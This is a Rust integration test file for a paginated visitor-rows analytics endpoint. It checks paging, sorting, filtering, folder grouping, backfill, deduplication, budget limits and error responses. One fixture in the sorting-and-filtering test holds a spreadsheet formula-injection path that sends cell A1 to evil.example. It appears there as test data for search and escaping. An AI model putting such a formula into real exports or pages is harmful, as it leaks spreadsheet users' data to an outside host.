//! Rows, page by page.

use std::collections::BTreeMap;

use docket_sim::{ServiceOperation, SimFault};
use docket_wire::{Rows, VisitorRow};
use reqwest::Method;
use serde_json::json;

use super::{analytics, large_world, service_rows, world};
use crate::harness::{World, answer, run, until};

async fn rows(world: &World, query: &str) -> Rows {
    let response = analytics(world, &format!("rows?from=2026-10-01&to=2026-10-31{query}")).await;
    assert_eq!(response.status, 200, "{response:?}");
    serde_json::from_str(&response.text).unwrap_or_else(|error| panic!("{error}: {response:?}"))
}

fn calls(world: &World) -> usize {
    world.sim.count(ServiceOperation::GetVisitors)
}

fn paths(rows: &[VisitorRow]) -> Vec<&str> {
    rows.iter().map(|row| row.path.as_str()).collect()
}

#[test]
fn only_the_pages_that_a_request_needs_are_fetched() {
    run(async {
        let world = large_world(100, 1_200).await;
        let all = service_rows(&world).await;
        let first = rows(&world, "").await;
        assert_eq!(first.rows, all[..250]);
        assert_eq!((first.loaded, first.pages_loaded, first.complete, first.partial), (250, 1, false, false));
        assert!(first.has_more);
        assert_eq!(
            (first.interval.from.to_string(), first.interval.to.to_string()),
            ("2026-10-01".into(), "2026-11-01".into())
        );
        assert_eq!(calls(&world), 1);
        let last = rows(&world, "&offset=900&limit=1000").await;
        assert_eq!(last.rows, all[900..]);
        assert_eq!((last.loaded, last.pages_loaded, last.complete, last.has_more), (700, 3, false, false));
        assert_eq!((calls(&world), last.budget.remaining), (3, 97));
        assert_eq!(rows(&world, "&offset=1000").await.rows, all[1000..]);
        assert_eq!(rows(&world, "&offset=5000").await.rows, []);
        assert_eq!(calls(&world), 3);

        // Stored rows survive a restart.
        let world = world.restarted().await;
        assert_eq!(rows(&world, "&offset=1000").await.rows, all[1000..]);
        assert_eq!(calls(&world), 3);
    });
}

#[test]
fn a_small_table_is_sorted_and_filtered_at_once() {
    run(async {
        let world = world(100).await;
        let all = service_rows(&world).await;
        let by_path = rows(&world, "&sort=path&limit=1000").await;
        assert_eq!((calls(&world), by_path.complete, by_path.matched), (2, true, 300));
        assert!(!by_path.has_more);
        let mut expected = all.clone();
        expected.sort_by(|a, b| a.path.cmp(&b.path));
        assert_eq!(by_path.rows, expected);

        let by_share = rows(&world, "&sort=share&order=asc&limit=1000").await.rows;
        let share = |row: &VisitorRow| row.ai as f64 / row.total as f64;
        assert!(by_share.windows(2).all(|pair| share(&pair[0]) <= share(&pair[1])));
        let top = rows(&world, "&sort=ai&limit=5").await;
        assert!(top.has_more);
        assert_eq!(top.rows[0].ai, all.iter().map(|row| row.ai).max().unwrap());
        assert_eq!(rows(&world, "&sort=ai&limit=2&offset=3").await.rows, top.rows[3..]);

        let found = rows(&world, "&q=HYPERLINK(%22").await;
        assert_eq!(
            (paths(&found.rows), found.matched),
            (vec!["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open\")"], 1)
        );
        let guides = rows(&world, "&prefix=/guides/&limit=1000").await;
        let expected: Vec<_> = all.iter().filter(|row| row.path.starts_with("/guides/")).cloned().collect();
        assert_eq!(guides.rows, expected);
        assert_eq!(calls(&world), 2);
    });
}

#[test]
fn a_folder_has_at_least_the_visitors_of_its_most_read_page() {
    run(async {
        let world = world(100).await;
        let all = service_rows(&world).await;
        let response = rows(&world, "&group=folder&limit=1000").await;
        assert_eq!((response.rows.len(), response.matched), (0, response.folders.len() as u64));
        let mut most = BTreeMap::new();
        for row in all.iter().filter(|row| row.path.starts_with("/guides/")) {
            let most: &mut u64 = most.entry("/guides/").or_default();
            *most = row.total.max(*most);
        }
        let guides = response.folders.iter().find(|folder| folder.folder == "/guides/").unwrap();
        assert_eq!(guides.at_least.total, most["/guides/"]);
        assert!(response.folders.iter().all(|folder| folder.at_least.total <= response.totals.total));
        assert_eq!(response.folders.iter().map(|folder| folder.pages).sum::<u64>(), 300);
        let below = rows(&world, "&group=folder&prefix=/sdks/&sort=path").await.folders;
        assert!(below.iter().all(|folder| folder.folder.starts_with("/sdks/")));
        assert!(below.is_sorted_by(|a, b| a.folder < b.folder));
    });
}

#[test]
fn a_backfill_loads_a_large_table() {
    run(async {
        let world = large_world(100, 1_200).await;
        let some = rows(&world, "&sort=path").await;
        assert_eq!((some.complete, some.loaded, some.matched, some.backfill), (false, 1000, 1000, None));
        assert_eq!(calls(&world), 4);
        let backfill = json!({ "kind": "paths", "from": "2026-10-01", "to": "2026-10-31" });
        let path = "/api/projects/acme-docs/visitors/backfill";
        let started = answer(world.ada(Method::POST, path).await.json(&backfill)).await;
        assert_eq!(started.status, 202, "{started:?}");
        let whole = until(async || rows(&world, "&sort=path").await, |whole| whole.complete).await;
        assert_eq!((whole.loaded, whole.matched, whole.stale), (1200, 1200, false));
        assert_eq!(calls(&world), 5, "loaded pages are not fetched again");
    });
}

#[test]
fn duplicates_are_shown_once_and_reported() {
    run(async {
        let world = world(100).await;
        rows(&world, "").await;
        world.sim.inject(ServiceOperation::GetVisitors, "shifted-rows".parse().unwrap(), 1);
        let response = rows(&world, "&sort=path&limit=1000").await;
        assert_eq!(
            (response.duplicates_dropped, response.totals_changed, response.complete),
            (3, true, true)
        );
        let mut shown = paths(&response.rows);
        let count = shown.len();
        shown.dedup();
        assert_eq!((shown.len(), count), (300, 300), "{response:?}");
    });
}

#[test]
fn loaded_rows_are_shown_when_the_budget_is_exhausted() {
    run(async {
        let world = world(1).await;
        let response = rows(&world, "&sort=total").await;
        assert_eq!((response.complete, response.loaded, response.budget.remaining), (false, 250, 0));
        let next_page = analytics(&world, "rows?from=2026-10-01&to=2026-10-31&offset=250").await;
        next_page.is_problem(429, "budget_exhausted");
        let other_range = analytics(&world, "rows?from=2026-09-01&to=2026-09-30").await;
        other_range.is_problem(429, "budget_exhausted");
        assert_eq!(calls(&world), 1);
    });
}

#[test]
fn a_failed_refresh_is_an_error() {
    run(async {
        let world = large_world(100, 1_200).await;
        rows(&world, "").await;
        world.sim.inject(ServiceOperation::GetVisitors, SimFault::status(503), 1);
        let path = "/api/projects/acme-docs/visitors/rows?from=2026-10-01&to=2026-10-31";
        let refresh = world.ada(Method::GET, path).await.header("Cache-Control", "no-cache");
        answer(refresh).await.is_problem(502, "service_failed");
    });
}

#[test]
fn offsets_past_the_last_row_are_not_fetched() {
    run(async {
        let world = world(100).await;
        rows(&world, "&sort=path").await;
        assert_eq!((calls(&world), rows(&world, "&offset=249999").await.rows), (2, vec![]));
        let beyond = analytics(&world, "rows?from=2026-10-01&to=2026-10-31&offset=250000").await;
        beyond.is_problem(400, "invalid_request");
        assert_eq!(beyond.problem().field.as_deref(), Some("offset"));
        // A page after the last does not belong to the table.
        let world = large_world(100, 1_200).await;
        for offset in [5000, 4000, 3000, 1000] {
            rows(&world, &format!("&offset={offset}")).await;
        }
        let response = rows(&world, "&offset=0").await;
        assert_eq!((response.complete, response.pages_loaded, response.loaded), (false, 2, 450));
        assert_eq!(calls(&world), 5);
    });
}

#[test]
fn a_rejected_key_and_invalid_queries_are_reported() {
    run(async {
        let world = world(100).await;
        world.sim.inject(ServiceOperation::GetVisitors, SimFault::status(401), 1);
        let path = "rows?from=2026-10-01&to=2026-10-31";
        analytics(&world, path).await.is_problem(502, "service_rejected_key");
        for (query, field) in [
            ("", "from"),
            ("?from=2026-10-02&to=2026-10-01", "from"),
            ("?from=2026-10-01&to=2026-10-31&sort=size", "sort"),
            ("?from=2026-10-01&to=2026-10-31&limit=1001", "limit"),
            ("?from=2026-10-01&to=2026-10-31&zone=Mars/Olympus", "zone"),
        ] {
            let refused = analytics(&world, &format!("rows{query}")).await;
            refused.is_problem_of(query, 400, "invalid_request");
            assert_eq!(refused.problem().field.as_deref(), Some(field));
        }
    });
}
